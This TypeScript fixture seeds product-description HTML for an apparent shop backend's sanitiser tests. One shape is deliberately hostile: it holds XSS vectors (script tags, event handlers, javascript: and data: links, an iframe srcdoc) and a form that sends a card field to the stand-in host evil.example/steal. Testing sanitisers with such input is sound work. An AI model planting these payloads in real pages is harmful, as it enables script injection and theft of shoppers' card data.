/**
 * The HTML descriptions of the seeded offers, shaped like the ones merchants'
 * platforms send (Shopify's editor output, tables of specs, nested lists,
 * entities) and, in one shape, hostile (script, event handlers, `javascript:`
 * and `data:` links, styles, frames): the BFF must turn all of them into the
 * shopper's safe structure, and benches and tests see real-shaped markup.
 * Chosen by offer id, not by the seed's random stream, so adding shapes moves
 * no other seeded value.
 */

interface DescriptionParts {
  offerId: number;
  name: string;
  /** The offer's plain-text description. */
  text: string;
  material: string;
  country: string;
  storeUrl: string;
}

const PWN = 'window.__tote_pwned=1';

const SHAPES: ((p: DescriptionParts) => string)[] = [
  // The plain case: a paragraph and a list.
  (p) => `<p>${p.text}</p><ul><li>Material: ${p.material}</li><li>Ships from ${p.country}</li></ul>`,
  // Emphasis, entities and a link to the merchant's own care page.
  (p) =>
    `<p><strong>${p.name}</strong> &mdash; ${p.text}</p>\n<p>Care: <em>wash cold</em>&nbsp;&amp; dry flat.<br>` +
    `See <a href="${p.storeUrl}/pages/care" target="_top">our care guide</a>.</p>`,
  // Nested and ordered lists.
  (p) =>
    `<p>${p.text}</p><ul><li>Details<ul><li>Material: ${p.material}</li><li>Origin: ${p.country}</li></ul></li>` +
    `<li>Sizing: true to size</li></ul><ol><li>Order today</li><li>Ships in 2&ndash;3 days</li></ol>`,
  // Hostile: everything that would run, load, overlay or leak if it were ever parsed as HTML in the browser.
  (p) =>
    `<p onclick="${PWN}" style="position:fixed;inset:0">${p.text}</p><script>${PWN}</script>` +
    `<img src=x onerror="${PWN}"><style>*{display:none!important}</style>` +
    `<p><a href="javascript:${PWN}">Free gift</a> <a href="data:text/html,<script>${PWN}</script>">Coupon</a> ` +
    `<a href=" java\tscript:${PWN}">Offer</a></p><iframe srcdoc="<script>parent.${PWN}</script>"></iframe>` +
    `<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>` +
    `<svg onload="${PWN}"><a href="https://evil.example/">svg link</a></svg><details open ontoggle="${PWN}"><summary>More</summary>x</details>`,
  // Editor output: spans with styles, empty paragraphs, a table of specs.
  (p) =>
    `<div><span style="font-weight: 700;" data-mce-style="x">${p.text}</span></div><div><br></div>` +
    `<table><tbody><tr><td>Material</td><td>${p.material}</td></tr><tr><td>Origin</td><td>${p.country}</td></tr></tbody></table>`,
];

/** The seeded `html_description` of an offer that has one. */
export function seedHtmlDescription(parts: DescriptionParts): string {
  return SHAPES[parts.offerId % SHAPES.length]!(parts);
}
